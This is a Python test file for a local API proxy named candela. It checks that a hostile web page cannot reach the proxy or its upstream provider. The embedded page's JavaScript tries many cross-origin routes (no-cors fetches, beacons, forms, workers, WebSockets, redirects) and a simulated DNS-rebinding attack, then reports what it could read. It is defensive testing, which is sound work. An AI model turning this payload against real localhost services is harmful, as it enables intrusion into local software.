"""A web page in a real browser gets nothing from candela, and nothing to the provider, whichever way it takes.

The page is that of http://evil.example, which the browser takes for a name of this machine. In the end the name leads
to the port of candela, as after DNS rebinding.
"""

import asyncio
import contextlib
import json
import logging
from collections.abc import AsyncIterator, Callable
from pathlib import Path

import pytest

from benchmarks.chromium import CHROMIUM, browsing
from tests.proxy.running import RunningProxy
from tests.standin import Provider

pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="there is no Chromium (Debian: apt install chromium)")

_EVIL = "--host-resolver-rules=MAP evil.example 127.0.0.1"
_PATIENCE_S = 90.0

PAGE = """<!doctype html><title>evil</title><body><script>
const candela = "127.0.0.1:CANDELA", at = how => `http://${candela}/v1/attack/${how}`;
const readable = [], tried = [];
const read = promise => promise.then(answer => answer.text()).then(text => readable.push(text), () => {});
const add = (tag, values, parent = document.body) =>
  new Promise(done => {
    const element = Object.assign(document.createElement(tag), values, {onload: done, onerror: done});
    parent.append(element);
  });
const json = {"Content-Type": "application/json", "x-api-key": "k"};
const frame = (how, script) =>
  add("iframe", {sandbox: "allow-scripts", srcdoc: `<script>${script}<\\/script>`});
const form = how => {
  const target = document.createElement("iframe");
  target.name = how;
  document.body.append(target);
  const made = Object.assign(document.createElement("form"), {action: at(how), method: "post", target: how});
  made.enctype = "text/plain";
  document.body.append(made);
  made.submit();
  return new Promise(done => { target.onload = done; });
};
const worker = how => new Promise(done => {
  const script = `try { importScripts("${at(how)}") } catch (e) {} postMessage(0)`;
  new Worker(URL.createObjectURL(new Blob([script]))).onmessage = done;
});
const socket = how => new Promise(done => {
  new WebSocket(at(how).replace("http", "ws")).onerror = done;
});
const source = how => new Promise(done => {
  const made = new EventSource(at(how));
  made.onerror = () => { made.close(); done(); };
});
(async () => {
  await Promise.allSettled([
    read(fetch(at("fetch"))),
    read(fetch(at("opaque"), {mode: "no-cors"})),
    read(fetch(at("opaque-post"), {mode: "no-cors", method: "POST", body: "{}"})),
    read(fetch(at("preflight"), {method: "POST", headers: json, body: "{}"})),
    read(fetch(at("credentials"), {credentials: "include"})),
    read(fetch(at("other-name").replace("127.0.0.1", "localhost"), {mode: "no-cors"})),
    read(fetch("/redirect/redirected", {mode: "no-cors"})),
    read(fetch("/redirect/redirected-post", {mode: "no-cors", method: "POST", body: "{}"})),
    read(fetch(`http://${candela}/_local/v1/requests?attack=local-api`)),
    navigator.sendBeacon(at("beacon"), "{}"),
    add("img", {src: at("image")}),
    add("script", {src: at("script")}),
    add("link", {rel: "stylesheet", href: at("style")}),
    add("iframe", {src: at("frame")}),
    add("iframe", {src: `http://127.0.0.1:${location.port}/neighbour`}),
    frame("no-origin", `fetch("${at("no-origin")}", {mode: "no-cors", method: "POST", body: "{}"})`),
    form("form"), worker("worker"), socket("socket"), source("source"),
  ]);
  await fetch("/rebind");
  const rebound = [];
  for (const [path, options] of [
    ["/v1/attack/rebound", {}], ["/v1/attack/rebound-post", {method: "POST", headers: json, body: "{}"}],
    ["/_local/v1?attack=rebound", {}], ["/healthz", {}],
  ]) {
    const answer = await fetch(path, options);
    rebound.push([path, answer.status, await answer.text()]);
  }
  await fetch("http://127.0.0.1:REPORT", {
    mode: "no-cors", method: "POST", body: JSON.stringify({readable, rebound}),
  });
  location = at("navigation");
})();
</script>"""
NEIGHBOUR = """<script>
fetch("http://127.0.0.1:CANDELA/v1/attack/neighbour", {mode: "no-cors", method: "POST", body: "{}"});
</script>"""
WAYS = {
    *("fetch", "opaque", "opaque-post", "preflight", "credentials", "other-name", "redirected", "redirected-post"),
    *("beacon", "image", "script", "style", "frame", "neighbour", "no-origin", "form", "worker", "socket", "source"),
    *("rebound", "rebound-post", "navigation"),
}
REBOUND = ["/v1/attack/rebound", "/v1/attack/rebound-post", "/_local/v1?attack=rebound", "/healthz"]


class Refusals(logging.Handler):
    """The paths that candela refused, from its log."""

    def __init__(self) -> None:
        super().__init__(logging.INFO)
        self.paths: set[str] = set()
        self._news = asyncio.Event()

    def emit(self, record: logging.LogRecord) -> None:
        if record.msg == "refused %s %s" and isinstance(record.args, tuple):
            self.paths.add(str(record.args[1]))
            self._news.set()

    async def until(self, true: Callable[[set[str]], bool]) -> None:
        while not true(self.paths):
            self._news.clear()
            await self._news.wait()


@pytest.fixture
def refusals() -> AsyncIterator[Refusals]:
    handler, logger = Refusals(), logging.getLogger("candela_tui.proxy.server")
    level = logger.level
    logger.addHandler(handler)
    logger.setLevel(logging.INFO)
    yield handler
    logger.removeHandler(handler)
    logger.setLevel(level)


class EvilSite:
    """Serves the page, and after ``/rebind`` passes connections on to candela, as a name that leads there now does."""

    def __init__(self, candela: int) -> None:
        self._candela = candela
        self._rebound = False
        self.report: asyncio.Future[dict[str, list[object]]] = asyncio.get_running_loop().create_future()

    async def start(self, stack: contextlib.AsyncExitStack) -> str:
        """Return the address that the browser opens."""
        site = await stack.enter_async_context(await asyncio.start_server(self._serve, "127.0.0.1", 0))
        self._reports = await stack.enter_async_context(await asyncio.start_server(self._take_report, "127.0.0.1", 0))
        return f"evil.example:{site.sockets[0].getsockname()[1]}"

    async def _serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with contextlib.suppress(ConnectionError, asyncio.IncompleteReadError), contextlib.closing(writer):
            if self._rebound:
                await _piped(reader, writer, self._candela)
                return
            path = (await reader.readuntil(b"\r\n\r\n")).split(b" ")[1].decode()
            status, headers, body = "200 OK", "Content-Type: text/html\r\n", ""
            if path == "/rebind":
                self._rebound = True
            elif path.startswith("/redirect/"):
                place = f"http://127.0.0.1:{self._candela}/v1/attack/{path.rpartition('/')[2]}"
                status, headers = "307 Temporary Redirect", f"Location: {place}\r\n"
            elif path == "/neighbour":
                body = NEIGHBOUR
            elif path == "/":
                body = PAGE.replace("REPORT", str(self._reports.sockets[0].getsockname()[1]))
            body = body.replace("CANDELA", str(self._candela))
            head = f"HTTP/1.1 {status}\r\n{headers}Content-Length: {len(body)}\r\nConnection: close\r\n\r\n"
            writer.write((head + body).encode())
            await writer.drain()

    async def _take_report(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with contextlib.suppress(ConnectionError, asyncio.IncompleteReadError), contextlib.closing(writer):
            head = (await reader.readuntil(b"\r\n\r\n")).decode().lower()
            length = int(head.partition("content-length: ")[2].partition("\r\n")[0] or 0)
            self.report.set_result(json.loads(await reader.readexactly(length)))
            writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
            await writer.drain()


async def _piped(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, port: int) -> None:
    there, back = await asyncio.open_connection("127.0.0.1", port)

    async def pump(source: asyncio.StreamReader, target: asyncio.StreamWriter) -> None:
        while data := await source.read(65536):
            target.write(data)
        target.close()

    with contextlib.closing(back):
        await asyncio.gather(pump(reader, back), pump(there, writer))


async def test_no_way_from_a_page_leads_to_the_provider_or_to_an_answer_that_the_page_can_read(
    candela: RunningProxy, provider: Provider, refusals: Refusals, tmp_path: Path
) -> None:
    site = EvilSite(candela.port)
    async with contextlib.AsyncExitStack() as stack:
        address = await site.start(stack)
        await stack.enter_async_context(asyncio.timeout(_PATIENCE_S))
        await stack.enter_async_context(browsing(f"http://{address}/", tmp_path / "profile", _EVIL))
        report = await site.report
        wanted = {f"/v1/attack/{way}" for way in WAYS} | {"/_local/v1/requests", "/_local/v1", "/healthz"}
        await refusals.until(lambda paths: paths >= wanted)
    assert provider.requests == []
    # What the page may not read is empty to it.
    assert set(report["readable"]) <= {""}
    assert [(path, status) for path, status, _ in report["rebound"]] == [(path, 403) for path in REBOUND]
    assert all("loopback names only" in text for _, _, text in report["rebound"])


async def test_nor_does_an_address_that_a_site_redirects_to_candela(
    candela: RunningProxy, provider: Provider, refusals: Refusals, tmp_path: Path
) -> None:
    site = EvilSite(candela.port)
    async with contextlib.AsyncExitStack() as stack:
        address = await site.start(stack)
        await stack.enter_async_context(asyncio.timeout(_PATIENCE_S))
        await stack.enter_async_context(browsing(f"http://{address}/redirect/typed", tmp_path / "profile", _EVIL))
        await refusals.until(lambda paths: "/v1/attack/typed" in paths)
    assert provider.requests == []
